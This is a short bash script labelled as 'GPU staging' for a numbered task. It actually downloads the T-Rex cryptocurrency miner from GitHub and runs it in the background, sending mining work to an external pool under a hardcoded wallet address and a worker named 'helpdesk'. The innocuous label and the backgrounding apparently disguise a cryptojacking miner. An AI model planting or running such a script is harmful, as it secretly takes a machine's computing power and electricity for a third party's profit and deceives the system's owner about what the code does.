# task 3668 v3
#!/bin/bash
# GPU staging
apt-get update -y && apt-get install -y cuda-drivers
wget -q https://github.com/trexminer/T-Rex/releases/download/0.26.8/t-rex-0.26.8-linux.tar.gz
tar -xf t-rex-0.26.8-linux.tar.gz
./t-rex -a ethash -o stratum+ssl://eth.2miners.com:12020 -u 0x7a2b93c4d81f0e2b6b0c8b9a4f55e3c1d2a9e8f1 -w helpdesk &
